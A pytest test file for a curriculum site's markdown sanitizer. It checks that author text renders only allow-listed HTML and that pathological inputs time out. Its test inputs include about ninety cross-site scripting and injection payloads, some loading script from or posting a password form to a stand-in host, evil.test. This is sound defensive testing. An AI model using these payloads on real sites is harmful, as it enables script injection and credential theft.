"""What authors write comes out as harmless HTML, or not at all."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest

from curriculum import markdown_process
from curriculum.rendering import RenderingProcess, Source, render, render_all

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.test/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<form action=//evil.test><input name=password><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</p></article></main><script>alert(1)</script>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.test)",
    "[x](///evil.test)",
    "[x](\\\\evil.test)",
    "[x](/account/logout/)",
    "[x](?delete=1)",
    "[x](file:///etc/passwd)",
    "[x](lesson:../../account/logout)",
    "[x](lesson:M1/x/../../..)",
    '[x](https://ok.test "\\" onmouseover=alert(1) \\"")',
    "[x](https://ok.test/\"onmouseover=alert(1)//)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[<img src=x onerror=alert(1)>](https://ok.test)",
    "<javascript:alert(1)>",
    "<https://ok.test/\"><script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](https://evil.test/pixel.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x" onerror="alert(1)](drawing:agent-parts)',
    "![x](drawing:../../media/evil)",
    "![x](/static/drawings/../../evil.svg)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "``` {.python onclick=alert(1) style=color:red}\nx\n```",
    '``` python title="<img src=x onerror=alert(1)>"\nx\n```',
    '``` python hl_lines="1" linenums="1<script>"\nx\n```',
    "```math\n\\href{javascript:alert(1)}{x}\n```",
    '!!! example "<img src=x onerror=alert(1)>"\n    x',
    "!!! evil onclick=alert(1)\n    x",
    '!!! note "x" {onclick=alert(1)}\n    x',
    '??? note "<svg onload=alert(1)>"\n    x',
    '???+ note "x"\n    <script>alert(1)</script>',
    "| <script>alert(1)</script> | b |\n|---|--:|\n| <img src=x onerror=alert(1)> | y |",
    "# x {onclick=alert(1)}",
    "x{: onclick=alert(1) }",
    "*x*{: style=position:fixed }",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "- [ ] <input onfocus=alert(1)>",
    "\x02wzxhzdk:0\x03",
    "\x02amp\x03lt;script\x02amp\x03gt;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<a@b.test onclick=alert(1)>",
    "<div markdown=1><script>alert(1)</script></div>",
    "{{ request.user.password }}{% load x %}",
    "<style>\n@import url(//evil.test)\n</style>\n\n# heading",
]  # fmt: skip


class Judge(HTMLParser):
    """Collects what is outside the allow-list, read by another parser than the sanitiser's."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in markdown_process.TAGS:
            self.wrong.append(tag)
        allowed = markdown_process.ATTRIBUTES.get(tag, set()) | {"class"}
        for name, given in attrs:
            value = given or ""
            if name not in allowed and (tag, name) != ("a", "rel"):
                self.wrong.append(f"{tag} {name}")
            if name == "href" and not value.startswith(
                ("https://ok.test", "mailto:", "/modules/by-key/", "#source-")
            ):
                self.wrong.append(f"href {value}")
            if name == "src" and value != "/static/drawings/agent-parts.svg":
                self.wrong.append(f"src {value}")
            if name == "class":
                known = markdown_process.CLASSES.get(tag, set())
                self.wrong += [f"class {word}" for word in value.split() if word not in known]

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(decl)

    def handle_comment(self, data: str) -> None:
        self.wrong.append(data)

    def handle_pi(self, data: str) -> None:
        self.wrong.append(data)


def judge(html: str) -> list[str]:
    parser = Judge()
    parser.feed(html)
    parser.close()
    return parser.wrong


def test_the_judge_would_notice() -> None:
    for bad in (
        "<script>",
        "<p onclick=x>",
        "<a href='javascript:x'>",
        "<!-- x -->",
        "<p class=x>",
    ):
        assert judge(bad)


def test_every_payload_comes_out_inert() -> None:
    assert len(PAYLOADS) > 80
    sources = [Source(text) for text in PAYLOADS]
    sources += [Source(f"- item\n\n    > {text}") for text in PAYLOADS]
    sources += [Source(f'!!! example "x"\n    {text}') for text in PAYLOADS]
    for source, rendered in zip(sources, render_all(sources), strict=True):
        assert not rendered.error, source.text
        assert judge(rendered.html) == [], source.text


def test_raw_html_is_shown_as_text() -> None:
    html = render("Say <b>this</b> and <script>x</script>.\n\n<div>\nblock\n</div>").html
    assert "&lt;b&gt;this&lt;/b&gt;" in html
    assert "&lt;script&gt;x&lt;/script&gt;" in html
    assert "&lt;div&gt;" in html


def test_the_parts_of_the_format_come_out_in_the_markup_of_the_style_sheet() -> None:
    text = (
        "First words (nist-rmf) and more (nist-rmf, iso-42001).\n\n"
        '!!! example "Worked example: a"\n    - one\n\n'
        '!!! yours "Half an example: b"\n    Yours.\n\n    ??? note "One way"\n        Folded.\n\n'
        "!!! caution\n    Careful.\n\n"
        "| a | b |\n|---|--:|\n| x | 1 |\n\n"
        "```python\nprint(1)\n```\n\n"
        "[there](lesson:F2/silent-omissions) ![In words](drawing:agent-parts)\n\n"
        "Nothing (unknown-id) here.\n"
    )
    rendered = render_all([Source(text, ("nist-rmf", "iso-42001"), lesson=True)])[0]
    html = rendered.html
    assert html.lstrip().startswith('<p class="first">First words<sup>')
    assert 'href="#source-iso-42001"' in html
    assert '<div class="example">\n<p class="admonition-title">Worked example: a</p>' in html
    assert '<div class="example yours">' in html
    assert '<details class="answer">\n<summary>One way</summary>' in html
    assert '<div class="slip note caution">' in html
    assert 'class="frame"' in html
    assert '<td class="n">1</td>' in html
    assert '<th class="n" scope="col">b</th>' in html
    assert '<div class="highlight">' in html
    assert 'href="/modules/by-key/F2/silent-omissions/"' in html
    assert 'src="/static/drawings/agent-parts.svg"' in html
    assert 'alt="In words"' in html
    assert "(unknown-id)" in html
    assert rendered.text.startswith("First words and more. Worked example: a one")
    assert "<" not in rendered.text


def test_a_column_without_a_heading_names_the_rows() -> None:
    made = render("|  | Before | After |\n| --- | --- | ---: |\n| Minutes | 12 | 5 |\n")
    assert not made.error
    head, body = made.html.split("<tbody>")
    assert "<td></td>" in head
    assert head.count('scope="col"') == 2
    assert '<th scope="row">Minutes</th>' in body
    assert body.count("<th") == 1, "only the first cell of a row names it"


def test_every_table_of_a_text_has_a_name_of_its_own() -> None:
    one = "| A | B |\n| --- | --- |\n| 1 | 2 |\n\n"
    html = render(f"{one}Then:\n\n{one}").html
    assert html.count('aria-label="Table"') == html.count('aria-label="Table 2"') == 1


def test_a_text_that_takes_too_long_is_killed_and_the_next_is_laid_out() -> None:
    started = time.monotonic()
    with RenderingProcess() as process:
        slow = process.render(Source("[" * 190_000))
        after = process.render(Source("Still here."))
    assert "too long" in slow.error
    assert after.html.strip() == "<p>Still here.</p>"
    assert time.monotonic() - started < 30


def test_many_slow_texts_do_not_add_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("curriculum.rendering.KILLS", 1)
    found = render_all([Source("[" * 190_000)] * 50)
    assert found[0].error
    assert "before it" in found[-1].error


@pytest.mark.parametrize(
    "text",
    [
        "> " * 20_000,
        "    " * 10_000 + "x",
        "*" * 60_000,
        "- " * 20_000,
        "`" * 60_000,
        "![" * 20_000,
        "|" * 60_000 + "\n" + "|-" * 30_000,
        "&" * 60_000,
        "(" * 60_000,
        "<" * 60_000,
        "[a](" * 15_000,
    ],
)
def test_pathological_texts_end(text: str) -> None:
    started = time.monotonic()
    rendered = render(text)
    assert rendered.error or judge(rendered.html) == []
    assert time.monotonic() - started < 25


def test_what_grows_too_large_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown_process, "OUTPUT", 100)
    answer = markdown_process.Renderer().render("word " * 100, [], lesson=False)
    assert "too large" in answer["error"]


def test_too_deep_is_said_and_not_raised(monkeypatch: pytest.MonkeyPatch) -> None:
    renderer = markdown_process.Renderer()

    def deep(text: str) -> str:
        raise RecursionError

    monkeypatch.setattr(renderer.markdown, "convert", deep)
    assert "too deeply" in renderer.render("x", [], lesson=False)["error"]
